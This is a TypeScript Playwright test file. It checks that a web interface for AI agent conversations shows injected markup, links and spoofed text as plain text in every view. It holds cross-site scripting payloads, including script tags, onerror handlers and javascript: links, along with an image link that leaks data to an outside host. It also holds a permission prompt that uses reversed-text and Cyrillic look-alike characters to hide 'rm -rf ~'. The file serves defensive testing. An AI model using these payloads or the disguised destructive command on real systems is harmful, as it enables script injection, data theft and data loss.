// Markup and URLs in all texts and names that users, agents and tools can choose: every view shows them as text, and never runs or loads them.
import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { pageServer, waitForRender } from './harness.ts';
import { showPanel } from './panels.ts';

const server = pageServer();

const TEXTS = [
  '<img src=x onerror="pwned=1">',
  '<script>pwned=1</script>',
  '"><svg onload=pwned=1><iframe srcdoc="<script>parent.pwned=1</script>">',
  '\\`<img src=x onerror=pwned=1>\\` `` ` <b onclick=pwned=1>x</b> ``',
  '[a](javascript:pwned=1) [b](JaVaScRiPt&colon;pwned=1) <javascript:pwned=1> [c](data:text/html,<script>pwned=1</script>)',
  '![x](https://elsewhere.example/?q=secret) [d]: https://elsewhere.example',
  '<style>*{display:none}</style><link rel=stylesheet href=https://elsewhere.example>',
  '<a href="javascript:pwned=1">e</a><form action=https://elsewhere.example><button>f</button></form>',
];
/** For names, which must be one line. */
const NAME = `osprey ${TEXTS.slice(0, 3).join(' ')}`;

server.test('what hides or forges the text of a question is marked, and can be allowed only once', async ({ open }) => {
  const conversation = (await server.tl()).conversation('forged', { title: 'Fix the p\u0430yment' });
  await conversation.send('/ask echo ok # \u202e; rm -rf ~ # get.harb\u043erbank.dev', { permissions: 'ask' }).accepted;
  const { id } = await conversation.get();
  const page = await open(`/c/${id}`);
  const card = page.getByRole('region', { name: /^Permission: / });
  const title = card.getByText('echo ok #');
  await title.waitFor();
  expect(await title.textContent()).toBe(
    'echo ok # U+202E · turns text round; rm -rf ~ # get.harb\u043e · Cyrillicrbank.dev',
  );
  expect(await title.locator('mark').allTextContents()).toEqual(['U+202E · turns text round', '\u043e · Cyrillic']);
  await card.getByText(/^Two characters here are not what they look like: U\+202E changes the order/).waitFor();
  expect(await card.getByRole('button').allTextContents()).not.toContainEqual(expect.stringMatching(/always/i));
  const name = 'Fix the p[\u0430 · Cyrillic]yment';
  await page.getByRole('heading', { level: 1, name }).waitFor();
  await page.locator('a[aria-current=page]').getByText(name).waitFor();
  expect(await page.title()).toContain(name);
  expect(await card.innerText()).not.toContain('\u202e');
});

server.test(
  'no text, name or output runs as code, becomes markup or causes a request, in any view',
  async ({ open }) => {
    const tl = await server.tl();
    const conversation = tl.conversation(`key ${NAME}`.slice(0, 200), { title: NAME, agent: 'forgetful' });
    const directives = TEXTS.map((text) => `/say ${text}\n/think ${text}`).join('\n');
    await conversation.ask([
      { type: 'resource_link', uri: 'javascript:pwned=1', name: NAME },
      {
        type: 'text',
        text: `${directives}\n/tool <img/src=x/onerror="pwned=1"> <img/src=x/onerror="pwned=1">.ts\n/stderr ${NAME}`,
      },
    ] as never);
    await conversation.ask(`/say \`\`\`"><script>pwned=1</script>\n/say ${NAME}`);
    await conversation.kill();
    await conversation.ask(`/title ${NAME}\n/say ${NAME}`);
    await conversation.fork({ turn: 1, title: `Fork ${NAME}` });
    await conversation.send(`/ask ${NAME}\n/tool edit x.txt`, { permissions: 'ask' }).accepted;
    await conversation.send(`/say queued ${NAME}`).accepted;
    const { tasks } = tl;
    const gate = `printf '%s\\n' '<img src=x onerror=pwned=1><script>pwned=1</script>'; false`;
    const [task] = await tasks.run({
      goal: `/say ${NAME}`,
      name: NAME.slice(0, 80),
      gate,
      agent: 'scripted',
      maxIterations: 1,
    });
    const { id } = await conversation.get();

    const page = await open('/');
    await page.getByRole('region', { name: 'Needs you' }).getByText('osprey').first().waitFor();
    await expectNothingRan(page, '“For you” and rail');
    await page.keyboard.press('/');
    await page.keyboard.type('osprey');
    await page.getByRole('list', { name: 'Search results' }).getByText('osprey').first().waitFor();
    await expectNothingRan(page, 'search');
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+K');
    const palette = page.getByRole('dialog', { name: 'Palette' });
    await palette.getByRole('combobox').fill('osprey');
    await palette
      .getByRole('option', { name: /osprey/ })
      .first()
      .waitFor();
    await expectNothingRan(page, 'palette');

    await page.goto(`${server.url}/c/${id}/seam/3`);
    await page
      .getByRole('region', { name: /^Permission: / })
      .getByText('osprey')
      .first()
      .waitFor();
    await page.getByRole('region', { name: 'Queued prompts' }).getByText('osprey').waitFor();
    await expandAll(page);
    await expectNothingRan(page, 'conversation');
    await page.goto(`${server.url}/c/${id}/turn/1`);
    await page.getByRole('article', { name: 'Turn 1', exact: true }).waitFor();
    await expandAll(page);
    await expectNothingRan(page, 'first turn');
    for (const tab of ['Sessions', 'Raw'] as const) {
      await showPanel(page, tab);
      await page
        .getByRole('tabpanel')
        .getByText(tab === 'Raw' ? 'turn.ended' : /osprey/)
        .first()
        .waitFor();
      await expandAll(page);
      await expectNothingRan(page, tab);
    }
    await page.goto(`${server.url}/c/${id}/compare`);
    await page.getByRole('region', { name: 'Second session' }).waitFor();
    await expectNothingRan(page, 'compare');

    await page.goto(`${server.url}/tasks`);
    await page.getByText('osprey').first().waitFor();
    await expectNothingRan(page, 'tasks');
    await page.goto(`${server.url}/tasks/${task?.id}`);
    await page.getByText('onerror').first().waitFor();
    await expandAll(page);
    await expectNothingRan(page, 'task');
    await conversation.cancel();
  },
);

/** Expands everything that is collapsed, and opens the panel. */
async function expandAll(page: Page): Promise<void> {
  // A run of tools opens to rows, which open to their output.
  for (let level = 0; level < 3; level += 1) {
    await page.evaluate(() => {
      const collapsed = 'main :is(button, summary)[aria-expanded="false"]:not([aria-haspopup])';
      for (const button of document.querySelectorAll<HTMLElement>(collapsed)) button.click();
      for (const details of document.querySelectorAll('details')) details.open = true;
    });
    await waitForRender(page);
  }
}

/** The harness reports requests to other origins and violations of the policy. */
async function expectNothingRan(page: Page, view: string): Promise<void> {
  const found = await page.evaluate(() => {
    const selector =
      'body :is(script, style, link, iframe, object, embed, base, [onerror], [onload], [onclick], [srcdoc], img[src="x"], form[action])';
    const links = [...document.querySelectorAll<HTMLAnchorElement>('a[href]')].map(({ protocol }) => protocol);
    return {
      ran: 'pwned' in globalThis,
      markup: [...document.querySelectorAll(selector)].map(({ outerHTML }) => outerHTML.slice(0, 200)),
      links: links.filter((protocol) => !/^(https?|mailto):$/.test(protocol)),
      shown:
        document.body.innerText.includes('<script>pwned=1</script>') || document.body.innerText.includes('onerror'),
    };
  });
  expect(found, view).toEqual({ ran: false, markup: [], links: [], shown: true });
}
